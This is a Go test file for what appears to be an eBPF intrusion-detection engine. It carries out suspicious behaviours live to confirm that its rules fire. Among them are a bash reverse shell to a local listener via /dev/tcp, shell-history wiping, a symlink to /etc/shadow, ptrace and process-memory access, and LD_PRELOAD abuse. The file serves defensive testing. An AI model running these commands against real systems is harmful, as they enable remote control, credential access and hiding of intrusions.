package bpf

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/vigil-project/vigil/engine"
	"github.com/vigil-project/vigil/engine/event"
)

var (
	builtinOnce sync.Once
	builtinRS   *engine.Ruleset
	builtinErr  error
)

func builtinRules(t *testing.T) *engine.Ruleset {
	t.Helper()
	builtinOnce.Do(func() {
		builtinRS, builtinErr = engine.CompilePaths(engine.Options{Hostname: "h"})
	})
	if builtinErr != nil {
		t.Fatal(builtinErr)
	}
	return builtinRS
}

// fires waits for an event of pid that the built-in rule fires on, and
// returns the alert.
func (c *collector) fires(t *testing.T, rule string, pid int) *event.Alert {
	t.Helper()
	return c.firesOn(t, rule, fmt.Sprintf("pid %d", pid), func(e *event.Event) bool { return e.Proc.PID == uint32(pid) })
}

// firesOn waits for an event that pred accepts and the built-in rule
// fires on, and returns the alert.
func (c *collector) firesOn(t *testing.T, rule, what string, pred func(*event.Event) bool) *event.Alert {
	t.Helper()
	rs := builtinRules(t)
	m := engine.NewMatcher()
	var got *event.Alert
	c.waitFor(t, fmt.Sprintf("%q for %s", rule, what), func(e *event.Event) bool {
		if !pred(e) {
			return false
		}
		for _, a := range m.Match(rs, e, nil) {
			if a.Rule == rule {
				got = a
				return true
			}
		}
		return false
	})
	return got
}

// The behaviours the built-in rules of 50-system.yaml detect, performed
// for real: each is seen by the kernel probes, decoded, and judged by the
// compiled built-in rule set.
func TestBuiltinRulesLive(t *testing.T) {
	c := live(t)
	dir := tempDir(t)

	t.Run("ptrace attach", func(t *testing.T) {
		target := exec.Command("sleep", "30")
		if err := target.Start(); err != nil {
			t.Fatal(err)
		}
		defer func() { target.Process.Kill(); target.Wait() }()
		c.waitFor(t, "exec of sleep", byPID(target.Process.Pid, event.TypeExec))
		_, pid := runHelperCmd(t, "ptrace", "attach "+strconv.Itoa(target.Process.Pid))
		a := c.fires(t, "Ptrace attached to another process", pid)
		if !strings.Contains(a.Output, "target=sleep") {
			t.Errorf("output %q does not name the target", a.Output)
		}
	})

	t.Run("PTRACE_TRACEME", func(t *testing.T) {
		tm := exec.Command(os.Args[0], "-test.run=^$", "traceme")
		tm.Env = append(os.Environ(), "VIGIL_TEST_HELPER=ptrace")
		timer := time.AfterFunc(20*time.Second, func() { tm.Process.Kill() })
		defer timer.Stop()
		if out, err := tm.Output(); err != nil {
			t.Fatalf("traceme helper: %v %s", err, out)
		}
		c.fires(t, "Anti-debugging with PTRACE_TRACEME", tm.Process.Pid)
	})

	t.Run("renamed to a kernel thread's name", func(t *testing.T) {
		_, pid := runHelperCmd(t, "prctl", "")
		a := c.fires(t, "Process renamed to look like a kernel thread", pid)
		wantOutput(t, a, "new_name=kworker/0:1")
	})

	t.Run("process_vm_readv of a child", func(t *testing.T) {
		res, pid := runHelperCmd(t, "process-vm", "")
		a := c.fires(t, "Memory of another process read or written", pid)
		wantOutput(t, a, "write=false res=16 target_pid="+res.Detail+" target=sleep")
	})

	t.Run("/proc/PID/mem of another process opened", func(t *testing.T) {
		res, pid := runHelperCmd(t, "proc-opens", "mem")
		mem := "/proc/" + res.Detail + "/mem"
		a := c.firesOn(t, "Memory of another process opened", fmt.Sprintf("pid %d opening %s", pid, mem), func(e *event.Event) bool {
			return e.Proc.PID == uint32(pid) && e.File.Path == mem
		})
		wantOutput(t, a, "file="+mem, "target_pid="+res.Detail)
		a = c.firesOn(t, "Process memory written through /proc", fmt.Sprintf("pid %d opening %s to write", pid, mem), func(e *event.Event) bool {
			return e.Proc.PID == uint32(pid) && e.File.Path == mem
		})
		wantOutput(t, a, mem)
		// Its own memory, by /proc/self and by its pid, is not another's.
		c.waitFor(t, "helper exit", byPID(pid, event.TypeExit))
		for _, e := range c.all(func(e *event.Event) bool { return e.Proc.PID == uint32(pid) && e.Type == event.TypeOpen }) {
			if e.File.Path == mem {
				continue
			}
			for _, a := range matchBuiltin(t, e) {
				if a.Rule == "Memory of another process opened" {
					t.Errorf("fired on %s: %s", e.File.Path, a.Output)
				}
			}
		}
	})

	t.Run("non-root setuid(0)", func(t *testing.T) {
		_, pid := runHelperCmd(t, "setids", "")
		a := c.fires(t, "Non-root process tried to become root", pid)
		if !strings.Contains(a.Output, "uid=65534 euid=65534") {
			t.Errorf("output %q", a.Output)
		}
	})

	t.Run("shell history deleted", func(t *testing.T) {
		os.MkdirAll("/home", 0o755) // the kernel matrix's root has none
		home, err := os.MkdirTemp("/home", "vigil-live-")
		if err != nil {
			t.Fatal(err)
		}
		defer os.RemoveAll(home)
		hist := filepath.Join(home, ".bash_history")
		if err := os.WriteFile(hist, []byte("ls\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		// Truncated by a shell redirection...
		cmd := exec.Command("sh", "-c", ": > "+hist)
		if err := cmd.Run(); err != nil {
			t.Fatal(err)
		}
		c.fires(t, "Shell history truncated", cmd.Process.Pid)
		// ... removed ...
		cmd = exec.Command("rm", "-f", hist)
		if err := cmd.Run(); err != nil {
			t.Fatal(err)
		}
		c.fires(t, "Shell history deleted or replaced", cmd.Process.Pid)
		// ... and replaced by a link to /dev/null.
		cmd = exec.Command("ln", "-s", "/dev/null", hist)
		if err := cmd.Run(); err != nil {
			t.Fatal(err)
		}
		c.fires(t, "Shell history deleted or replaced", cmd.Process.Pid)
	})

	t.Run("directory and file below a binary directory", func(t *testing.T) {
		os.MkdirAll("/usr/local/bin", 0o755) // the kernel matrix's root has none
		d := fmt.Sprintf("/usr/local/bin/.vigil-live-%d", os.Getpid())
		cmd := exec.Command("mkdir", d)
		if err := cmd.Run(); err != nil {
			t.Fatal(err)
		}
		defer os.Remove(d)
		a := c.fires(t, "File or directory created below binary directory", cmd.Process.Pid)
		if !strings.Contains(a.Output, "path="+d) {
			t.Errorf("output %q", a.Output)
		}
		f := d + ".file"
		cmd = exec.Command("touch", f)
		if err := cmd.Run(); err != nil {
			t.Fatal(err)
		}
		defer os.Remove(f)
		a = c.fires(t, "Write below system binary or library directory", cmd.Process.Pid)
		if !strings.Contains(a.Output, "file="+f) {
			t.Errorf("output %q", a.Output)
		}
	})

	t.Run("symlink to a sensitive file", func(t *testing.T) {
		link := filepath.Join(dir, "shadow-link")
		cmd := exec.Command("ln", "-s", "/etc/shadow", link)
		if err := cmd.Run(); err != nil {
			t.Fatal(err)
		}
		a := c.fires(t, "Link to sensitive file created by syscall", cmd.Process.Pid)
		if !strings.Contains(a.Output, "link="+link+" target=/etc/shadow") {
			t.Errorf("output %q", a.Output)
		}
	})

	t.Run("reverse shell", func(t *testing.T) {
		l, err := net.Listen("tcp4", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		defer l.Close()
		go func() {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			defer conn.Close()
			conn.Write([]byte("exit\n")) // the attacker's first and last command
			conn.SetReadDeadline(time.Now().Add(10 * time.Second))
			buf := make([]byte, 4096)
			for {
				if _, err := conn.Read(buf); err != nil {
					return
				}
			}
		}()
		port := l.Addr().(*net.TCPAddr).Port
		cmd := exec.Command("bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", port))
		timer := time.AfterFunc(20*time.Second, func() { cmd.Process.Kill() })
		defer timer.Stop()
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("reverse shell: %v %s", err, out)
		}
		// The redirections are made by the child bash that becomes bash -i.
		a := c.firesOn(t, "Network socket redirected to standard input or output", "a child of the reverse shell's bash",
			func(e *event.Event) bool { return e.Proc.PPID == uint32(cmd.Process.Pid) })
		want := fmt.Sprintf("connection=127.0.0.1:%d", port)
		if !strings.Contains(a.Output, want) || !strings.Contains(a.Output, "process=bash") {
			t.Errorf("output %q, want %s and process=bash", a.Output, want)
		}
	})

	t.Run("module load attempt", func(t *testing.T) {
		self, _ := os.Executable()
		res, pid := runHelperCmd(t, "module", self)
		if slices.ContainsFunc(c.probes.MissingHooks(), func(s string) bool { return strings.HasPrefix(s, "init_module ") }) {
			// Asserted in TestModuleFields; the kernel matrix runs this.
			t.Logf("kernel without module support (results %v): nothing to detect here", res.FDs)
			return
		}
		a := c.fires(t, "Kernel module load by unexpected program", pid)
		if !strings.Contains(a.Output, "args=") {
			t.Errorf("output %q", a.Output)
		}
	})

	t.Run("namespace change on the host", func(t *testing.T) {
		_, pid := runHelperCmd(t, "ns", "")
		a := c.fires(t, "Namespace changed by non-container process", pid)
		if !strings.Contains(a.Output, "unshare namespaces=ipc uts flags=201326592 process=bpf.test") {
			t.Errorf("output %q", a.Output)
		}
	})

	t.Run("BPF program load", func(t *testing.T) {
		_, pid := runHelperCmd(t, "bpfload", "vigil_live")
		// (cilium/ebpf's feature probes load nameless programs first.)
		a := c.firesOn(t, "BPF program loaded by unexpected process", "the named program", func(e *event.Event) bool {
			return e.Proc.PID == uint32(pid) && e.BPF.Name == "vigil_live"
		})
		if !strings.Contains(a.Output, "type=socket_filter name=vigil_live res=") {
			t.Errorf("output %q", a.Output)
		}
	})

	t.Run("LD_PRELOAD outside system libraries", func(t *testing.T) {
		cmd := exec.Command("/bin/true")
		cmd.Env = []string{"LD_PRELOAD=/tmp/vigil-nonexistent.so"}
		cmd.Run() // the loader complains about the missing library and runs true
		c.fires(t, "Dynamic loader environment variable abuse", cmd.Process.Pid)
	})
}
